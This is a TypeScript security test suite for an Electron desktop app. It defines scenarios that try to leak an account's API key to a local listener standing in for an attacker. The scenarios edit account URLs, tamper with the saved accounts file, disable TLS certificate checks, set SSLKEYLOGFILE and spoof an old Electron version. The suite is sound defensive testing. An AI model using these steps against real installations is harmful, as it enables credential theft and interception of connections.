import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:https';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { atEndOfTest } from '../../e2e/at-end';
import { askBridge } from '../../e2e/desk/ask-bridge';
import { OWN_ACCOUNT, useOwnAccount } from '../../e2e/desk/samples';
import { newProfile } from '../../e2e/launch';
import { startPractice } from '../../e2e/practice';
import { type Attack, heldUnless, type Listener, startListener } from './attack';

const keysAt = (host: Listener): string[] =>
  host.heard.flatMap(({ method, path, headers }) =>
    headers.authorization === undefined
      ? []
      : [`${method} ${path} with ${headers.authorization.slice(0, 16)}…`],
  );

async function ownAccount(page: Page) {
  const { accounts } = await askBridge(page, 'accounts:list', undefined);
  const own = accounts.find(({ account }) => account.name === OWN_ACCOUNT);
  if (own === undefined) throw new Error('The account is not there');
  return own.account;
}

const movedTo = (origin: string) => ({
  ...{ editorBaseUrl: `${origin}/api/v1`, orderSubmitUrl: origin, commerceBaseUrl: `${origin}/api` },
});

/** Starts a host with a certificate that no authority signed; `heard` are the keys that reached it. */
async function startUnvouched(
  hostname = '127.0.0.1',
): Promise<{ readonly origin: string; readonly heard: string[] }> {
  const folder = await mkdtemp(join(tmpdir(), 'unvouched-'));
  const [keyFile, certFile] = [join(folder, 'key.pem'), join(folder, 'cert.pem')];
  const made = ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=evil.test'];
  execFileSync('openssl', [...made, '-keyout', keyFile, '-out', certFile], { stdio: 'ignore' });
  const [key, cert] = [await readFile(keyFile), await readFile(certFile)];
  await rm(folder, { recursive: true });
  const heard: string[] = [];
  const server = createServer({ key, cert }, (request, response) => {
    heard.push(`${request.method ?? ''} ${request.headers.authorization?.slice(0, 16) ?? 'without a key'}`);
    response.writeHead(401, { 'content-type': 'application/json' }).end('{"message":"Unauthorized"}');
  });
  server.listen(0, hostname);
  await once(server, 'listening');
  atEndOfTest(() => {
    server.closeAllConnections();
    server.close();
    return Promise.resolve();
  });
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return { origin: `https://${hostname}:${port}`, heard };
}

/** An address of this computer by which it is one of a network: no program takes it for its own computer. */
function addressInNetwork(): string {
  const all = Object.values(networkInterfaces()).flatMap((addresses) => addresses ?? []);
  const found = all.find(({ family, internal }) => family === 'IPv4' && !internal);
  if (found === undefined) throw new Error('This computer is in no network, so there is no host but itself');
  return found.address;
}

/** A file that has the main process take its Electron for one of this version; it is loaded before the program. */
async function pretending(version: string): Promise<string> {
  const file = join(await newProfile(), 'version.cjs');
  await writeFile(
    file,
    `Object.defineProperty(process.versions, 'electron', { value: '${version}' });
     if (process.versions.electron !== '${version}') throw new Error('The version is still another');`,
  );
  return file;
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'key-sent-by-edited-account',
    actor: 'page script',
    attempt:
      'A script in the page edits the account to a host of the attacker and has the connection tested.',
    async run(target) {
      const [lab, host] = [await startPractice(), await startListener()];
      const desk = await target.open(lab);
      await useOwnAccount(desk);
      const { page } = desk.running;
      const account = await ownAccount(page);
      const { id } = account;
      await askBridge(page, 'accounts:edit', { id, draft: { ...account, ...movedTo(host.origin) } });
      await askBridge(page, 'accounts:test', { id });
      return heldUnless(keysAt(host), 'no request with a key reached the host');
    },
  },
  {
    name: 'key-sent-by-account-list',
    actor: 'restored file',
    attempt: 'The list of accounts on disk names a host of the attacker at the next start.',
    async run(target) {
      const [lab, host] = [await startPractice(), await startListener()];
      const desk = await target.open(lab, { outlivesTest: true });
      await useOwnAccount(desk);
      const { id } = await ownAccount(desk.running.page);
      await desk.running.close();
      const file = join(desk.running.profile, 'accounts.json');
      const { origin } = new URL(lab.editorBaseUrl);
      await writeFile(file, (await readFile(file, 'utf8')).replaceAll(origin, host.origin));
      const later = await target.open(lab, { profile: desk.running.profile });
      const moved = await ownAccount(later.running.page);
      if (!moved.editorBaseUrl.startsWith(host.origin)) throw new Error('The list was not taken');
      await askBridge(later.running.page, 'accounts:test', { id });
      return heldUnless(keysAt(host), 'no request with a key reached the host');
    },
  },
  {
    name: 'key-sent-past-certificates',
    actor: 'environment',
    attempt:
      'The program is started with a variable by which Node checks no certificates, in front of a false lab.',
    async run(target) {
      const [lab, host] = [await startPractice(), await startUnvouched()];
      const desk = await target.open(lab, { env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
      const { settings, running } = desk;
      await settings.goAccounts();
      await settings.add({
        ...{ name: OWN_ACCOUNT, environment: 'Sandbox', key: 'a-key-for-the-false-lab' },
        editorBaseUrl: `${host.origin}/api/v1`,
      });
      const { id } = await ownAccount(running.page);
      // A call that may leave only once goes by Node's own way, the test of the connection by Chromium's.
      const callbackUri = 'https://studio.example/callback';
      await askBridge(running.page, 'webhooks:register', {
        ...{ accountId: id, service: 'editor' as const, callbackUri, replaces: null },
      }).catch(() => undefined);
      await askBridge(running.page, 'accounts:test', { id });
      return heldUnless(host.heard, 'no request reached the false lab');
    },
  },
  {
    name: 'secrets-of-connections-recorded',
    actor: 'environment',
    attempt:
      'The program is started with a variable by which Chromium writes the secrets of every connection into a file.',
    async run(target) {
      const [lab, host] = [await startPractice(), await startUnvouched()];
      const file = join(await newProfile(), 'secrets.log');
      const { running, settings } = await target.open(lab, { env: { SSLKEYLOGFILE: file } });
      await settings.goAccounts();
      await settings.add({
        ...{ name: OWN_ACCOUNT, environment: 'Sandbox', key: 'a-key-for-the-false-lab' },
        editorBaseUrl: `${host.origin}/api/v1`,
      });
      const { id } = await ownAccount(running.page);
      const [editor] = await askBridge(running.page, 'accounts:test', { id });
      if (!JSON.stringify(editor).includes('ERR_CERT'))
        throw new Error(`No connection was begun: ${JSON.stringify(editor)}`);
      const secrets = await readFile(file, 'utf8').catch(() => '');
      return heldUnless(
        secrets === '' ? [] : [`secrets of ${secrets.trim().split('\n').length} kinds were written`],
        'a connection was begun and nothing was written',
      );
    },
  },
  {
    name: 'key-on-an-old-electron',
    actor: 'network',
    attempt:
      'A key that was given on a newer Electron, and one that is asked for now, go to another computer on an Electron whose holes are known.',
    async run(target) {
      const [lab, host] = [await startPractice(), await startUnvouched(addressInNetwork())];
      const newer = await target.open(lab, {
        ...{ preload: await pretending('45.0.0'), env: { PROOFDESK_RUNTIME: 'official' } },
        ...{ outlivesTest: true },
      });
      await newer.settings.goAccounts();
      await newer.settings.add({
        ...{ name: OWN_ACCOUNT, environment: 'Sandbox', key: 'a-key-for-another-computer' },
        editorBaseUrl: `${host.origin}/api/v1`,
      });
      const { profile } = newer.running;
      await newer.running.close();
      // No certificate is checked without its defences: what is tried here is whether the key leaves at all.
      const old = await target.open(lab, {
        ...{ profile, preload: await pretending('25.1.1') },
        env: { PROOFDESK_RUNTIME: 'official', NODE_TLS_REJECT_UNAUTHORIZED: '0' },
      });
      const { page } = old.running;
      const { id } = await ownAccount(page);
      const failures: string[] = [];
      const attempt = (asked: Promise<unknown>): Promise<unknown> =>
        asked.catch((error: unknown) => failures.push(String(error)));
      const callbackUri = 'https://studio.example/callback';
      await attempt(
        askBridge(page, 'webhooks:register', {
          ...{ accountId: id, service: 'editor' as const, callbackUri, replaces: null },
        }),
      );
      // It ends with an answer of the person or with a refusal, so it is not waited for for ever.
      const asks = attempt(askBridge(page, 'accounts:ask-key', { id, slot: 'all', origin: null }));
      await Promise.race([asks, delay(3_000)]);
      const windows = old.running.app.windows().length;
      const refusals = failures.filter((text) => text.includes('"old-runtime"')).length;
      const evidence = [
        ...host.heard.map((heard) => `the other computer got ${heard}`),
        ...(windows > 1 ? ['a key is asked for'] : []),
      ];
      if (evidence.length === 0 && refusals !== 2)
        throw new Error(`It was refused for another reason: ${failures.join()}`);
      return heldUnless(evidence, 'no key left and none was asked for: the Electron is too old');
    },
  },
];
